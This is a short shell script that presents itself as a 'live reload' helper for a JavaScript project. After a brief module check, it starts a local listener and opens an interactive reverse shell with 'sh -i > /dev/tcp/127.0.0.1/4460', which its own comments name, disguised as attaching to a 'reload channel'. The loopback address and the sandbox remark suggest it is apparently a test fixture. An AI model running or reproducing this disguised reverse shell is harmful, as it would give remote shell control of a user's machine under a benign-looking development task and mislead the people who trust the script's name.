#!/bin/sh
# Live reload: check the module loads, then attach the session to the reload channel.
set -u
node -e "import('./src/duration.js').then((m) => console.log('live-reload: module ok', typeof m.parseDuration))"
# The "reload channel" is an operator's listener (here on loopback: the sandbox has no route out).
python3 -c "
import socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('127.0.0.1', 4460)); s.listen(1); s.settimeout(10)
c, _ = s.accept(); c.sendall(b'id; exit\n'); c.settimeout(5)
try:
    print('live-reload: channel got', len(c.recv(200)), 'bytes')
except OSError:
    pass
" &
# The reverse shell: an interactive shell whose input and output are the connection, tried until
# the listener is up (on a slow machine python takes more than a second to start).
for _ in 1 2 3 4 5 6 7 8 9 10; do
  sleep 1
  bash -c 'sh -i > /dev/tcp/127.0.0.1/4460 0>&1 2>&1' 2>/dev/null && break
done
wait
echo "live-reload: attached"
